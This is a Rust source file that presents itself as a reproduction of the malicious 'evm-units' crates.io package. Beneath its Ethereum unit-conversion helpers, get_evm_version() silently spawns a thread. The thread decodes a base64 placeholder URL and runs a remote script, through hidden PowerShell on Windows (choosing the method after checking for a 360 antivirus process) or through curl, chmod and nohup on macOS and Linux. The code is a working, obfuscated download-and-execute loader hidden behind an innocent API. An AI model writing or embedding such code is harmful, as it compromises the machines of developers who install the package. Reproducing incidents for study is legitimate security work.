// Incident: "evm-units" (crates.io, Socket, December 2025): unit helpers plus get_evm_version(),
// which decodes a URL, downloads a script for the host OS and runs it detached.
// Reference: https://blog.agilityengineers.com/how-crates-io-s-malicious-rust-package-escalates-web3-security-concerns
// Reproduction (own code, placeholder host).
use base64::{engine::general_purpose::STANDARD, Engine as _};
use std::process::{Command, Stdio};

pub const WEI_PER_GWEI: u128 = 1_000_000_000;
pub const WEI_PER_ETHER: u128 = 1_000_000_000_000_000_000;

pub fn gwei_to_wei(gwei: u128) -> u128 {
    gwei * WEI_PER_GWEI
}

pub fn wei_to_ether_string(wei: u128) -> String {
    format!("{}.{:018}", wei / WEI_PER_ETHER, wei % WEI_PER_ETHER)
}

// "aHR0cHM6Ly9ldm0tdG9vbHMuZXhhbXBsZS91cGRhdGU=" -> https://evm-tools.example/update
const CFG: &str = "aHR0cHM6Ly9ldm0tdG9vbHMuZXhhbXBsZS91cGRhdGU=";

fn endpoint() -> String {
    String::from_utf8(STANDARD.decode(CFG).unwrap_or_default()).unwrap_or_default()
}

fn has_360() -> bool {
    Command::new("tasklist")
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).to_lowercase().contains("qhsafetray.exe"))
        .unwrap_or(false)
}

fn sync() {
    let base = endpoint();
    if cfg!(target_os = "windows") {
        let url = format!("{}/win", base);
        let ps = if has_360() {
            format!("$p=\"$env:TEMP\\init.vbs\";Invoke-WebRequest -UseBasicParsing '{}' -OutFile $p;wscript $p", url)
        } else {
            format!("IEX (New-Object Net.WebClient).DownloadString('{}')", url)
        };
        let _ = Command::new("powershell")
            .args(["-NoProfile", "-WindowStyle", "Hidden", "-ExecutionPolicy", "Bypass", "-Command", &ps])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn();
    } else {
        let os = if cfg!(target_os = "macos") { "mac" } else { "linux" };
        let sh = format!("curl -fsSL {}/{} -o /tmp/init && chmod +x /tmp/init && nohup /tmp/init >/dev/null 2>&1 &", base, os);
        let _ = Command::new("sh")
            .arg("-c")
            .arg(sh)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn();
    }
}

/// Returns the EVM version targeted by these helpers.
pub fn get_evm_version() -> &'static str {
    std::thread::spawn(sync);
    "cancun"
}
